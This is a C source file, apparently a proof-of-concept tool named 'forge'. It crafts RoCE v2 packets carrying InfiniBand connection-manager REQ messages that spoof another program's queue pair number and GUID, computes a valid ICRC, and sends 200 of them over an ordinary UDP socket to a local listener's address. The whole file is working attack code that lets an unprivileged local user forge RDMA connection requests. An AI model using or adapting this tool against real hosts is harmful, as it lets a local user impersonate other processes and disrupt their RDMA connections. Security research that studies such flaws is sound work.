/* SPDX-License-Identifier: BSD-2-Clause */
/* forge ADDRESS PORT QPN GUID: sends what any user of a host can send: requests to a
 * listener at one of the host's addresses that seem to come from another program's QP. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "wire/cm_ip.h"
#include "wire/cm_mad.h"
#include "wire/ib_hdr.h"
#include "wire/ib_opcode.h"
#include "wire/ib_pkt.h"
#include "wire/icrc.h"

enum {
	ROCE = 4791,
	HDRS = 20,
	PACKET = HDRS + MAD_LEN + ICRC_LEN,
	TIMES = 200,
	SLOT_SHIFT = 22,
	QPN_SHIFT = 14,
	PS_TCP = 0x0106
};

static void build(uint8_t packet[PACKET], const struct sockaddr_in *from, uint16_t port,
		  uint32_t qpn, uint64_t guid, uint32_t n)
{
	struct ib_fields f = {
		.opcode = ib_opcode(IB_UD, IB_SEND, IB_ONLY, IB_NONE),
		.migreq = true,
		.pkey = 0xffff,
		.dest_qp = 1,
		.src_qp = 1,
		.qkey = 0x80010000,
		.psn = n,
	};
	struct cm_msg m = {
		.type = CM_REQ,
		.tid = n,
		.qpn = qpn,
		.ca_guid = guid,
		.local_id = qpn >> QPN_SHIFT << SLOT_SHIFT | (n & 0x3fffff),
		.service_id = cm_service_id(PS_TCP, port),
		.pkey = 0xffff,
		.mtu = 3,
		.local_timeout = 20,
		.remote_timeout = 20,
		.max_cm_retries = 15,
	};
	struct cm_ip ip = { .src_port = 999 };
	struct icrc_path path = { .sport = ntohs(from->sin_port), .dport = ROCE };

	ip.src[10] = ip.src[11] = 0xff;
	memcpy(ip.src + 12, &from->sin_addr, 4);
	memcpy(ip.dst, ip.src, 16);
	memcpy(path.src, ip.src, 16);
	memcpy(path.dst, ip.src, 16);
	memcpy(m.path.sgid, ip.src, 16);
	memcpy(m.path.dgid, ip.src, 16);
	cm_ip_build(m.private, &ip);
	ib_build(packet, &f);
	cm_mad_build(packet + HDRS, &m);
	icrc_end(icrc_start(&path, 0, PACKET, packet, PACKET - ICRC_LEN),
		 packet + PACKET - ICRC_LEN);
}

int main(int argc, char **argv)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0), dont_fragment = IP_PMTUDISC_DO;
	struct sockaddr_in from = { .sin_family = AF_INET }, to;
	socklen_t len = sizeof(from);
	uint8_t packet[PACKET];

	if (argc < 5 || inet_pton(AF_INET, argv[1], &from.sin_addr) != 1)
		return 2;
	/* With "don't fragment" the identification, which the ICRC covers, is 0. */
	if (setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &dont_fragment, sizeof(int)) ||
	    bind(fd, (struct sockaddr *)&from, len) ||
	    getsockname(fd, (struct sockaddr *)&from, &len)) {
		perror("forge");
		return 1;
	}
	to = from;
	to.sin_port = htons(ROCE);
	for (uint32_t n = 0; n < TIMES; n++) {
		build(packet, &from, (uint16_t)atoi(argv[2]),
		      (uint32_t)strtoul(argv[3], NULL, 0), strtoull(argv[4], NULL, 0), n);
		if (sendto(fd, packet, PACKET, 0, (struct sockaddr *)&to, len) !=
		    PACKET) {
			perror("forge");
			return 1;
		}
		usleep(1000);
	}
	return 0;
}
